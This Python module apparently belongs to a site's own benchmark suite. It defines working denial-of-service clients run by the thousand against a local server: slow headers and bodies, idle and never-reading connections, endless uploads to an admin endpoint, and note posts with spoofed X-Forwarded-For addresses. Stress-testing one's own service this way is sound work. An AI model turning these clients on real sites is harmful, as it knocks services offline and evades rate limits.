"""Clients that no browser is, each by the thousand from one process: what eight people can do to a site."""

import asyncio
import re
import sqlite3
import time
from collections.abc import Awaitable, Callable
from contextlib import closing, suppress
from pathlib import Path
from urllib.parse import urlencode

import brotli

from bench.server import HOST, fetch

GUIDE = "/guides/machine-learning-engineer/"
NOTES = f"{GUIDE}notes/"
PIECE = b"a" * 65536
DRIP_SECONDS = 2.0
Client = Callable[[int, int], Awaitable[None]]
Parts = list[tuple[int, Client]]


async def connected(port: int) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    return await asyncio.open_connection(HOST, port, limit=4096)


def head(first: str, *headers: str) -> bytes:
    return "\r\n".join([first, f"Host: {HOST}", *headers, "", ""]).encode()


async def drip(port: int, said: bytes) -> None:
    """Say this much, and then a letter every few seconds."""
    _, writer = await connected(port)
    writer.write(said)
    while not writer.is_closing():
        await asyncio.sleep(DRIP_SECONDS)
        writer.write(b"a")
        await writer.drain()


async def slow_body(port: int, _: int) -> None:
    form = "Content-Type: application/x-www-form-urlencoded"
    await drip(port, head("POST /calculator/own-pay/ HTTP/1.1", form, "Content-Length: 5000"))


async def slow_header(port: int, _: int) -> None:
    await drip(port, b"GET / HTTP/1.1\r\nHost: ")


async def silent(port: int, _: int) -> None:
    reader, writer = await connected(port)
    with closing(writer):
        await reader.read(1)


async def never_reading(port: int, _: int) -> None:
    """Ask for page after page and read none."""
    reader, writer = await connected(port)
    writer.transport.pause_reading()  # type: ignore[attr-defined]
    with closing(writer):
        for _ in range(30):
            writer.write(head(f"GET {GUIDE} HTTP/1.1") * 20)
            await asyncio.sleep(1)
    del reader


async def endless(port: int, which: int) -> None:
    """A body that never ends, in pieces or by its length; or one of 600 MB."""
    lengths = ("Transfer-Encoding: chunked", "Content-Length: 900000000000", f"Content-Length: {600 * 1024**2}")
    _, writer = await connected(port)
    piece = b"10000\r\n" + PIECE + b"\r\n" if which % 3 == 0 else PIECE
    with closing(writer):
        writer.write(head("POST /admin/tasks/start/import/ HTTP/1.1", lengths[which % 3], "Cookie: sessionid=abc"))
        for _ in range(9600):
            writer.write(piece)
            await writer.drain()


async def note(port: int, which: int) -> None:
    """A reader's note, each from an address of its own."""
    page = (await asyncio.to_thread(fetch, port, NOTES))[2]
    page = bytes(brotli.decompress(page))
    found = re.search(rb'name="mark"\s+value="([^"]+)"', page)
    form = urlencode({"mark": found[1].decode() if found else "", "text": "A note."})
    address = f"X-Forwarded-For: 192.0.{which % 250}.{time.monotonic_ns() % 250}"
    kind = "Content-Type: application/x-www-form-urlencoded"
    reader, writer = await connected(port)
    with closing(writer):
        writer.write(head(f"POST {NOTES} HTTP/1.1", kind, address, f"Content-Length: {len(form)}") + form.encode())
        await reader.read(100)
        await asyncio.sleep(0.2)


ATTACKS: dict[str, Parts] = {
    "500 slow bodies": [(500, slow_body)],
    "500 slow headers": [(500, slow_header)],
    "5,000 silent connections": [(5000, silent)],
    "500 that never read": [(500, never_reading)],
    "24 endless uploads": [(24, endless)],
    "8 note writers, database locked": [(8, note)],
}
ATTACKS["all of these together"] = [part for parts in list(ATTACKS.values()) for part in parts]


def attack(parts: Parts, share: float, port: int, seconds: float) -> None:
    """Each client begins anew whenever its connection ends, until the time is over."""
    with suppress(TimeoutError):
        asyncio.run(all_of(parts, share, port, seconds))


async def all_of(parts: Parts, share: float, port: int, seconds: float) -> None:
    async with asyncio.timeout(seconds):
        clients = [(client, which) for number, client in parts for which in range(max(int(number * share), 1))]
        await asyncio.gather(*(again_and_again(client, port, which) for client, which in clients))


async def again_and_again(client: Client, port: int, which: int) -> None:
    while True:
        with suppress(OSError, asyncio.IncompleteReadError):
            await client(port, which)
        await asyncio.sleep(0.5)


def lock(file: Path) -> sqlite3.Connection:
    """A writer that holds the database until its connection is closed."""
    connection = sqlite3.connect(file, isolation_level=None)
    connection.execute("BEGIN IMMEDIATE")
    return connection
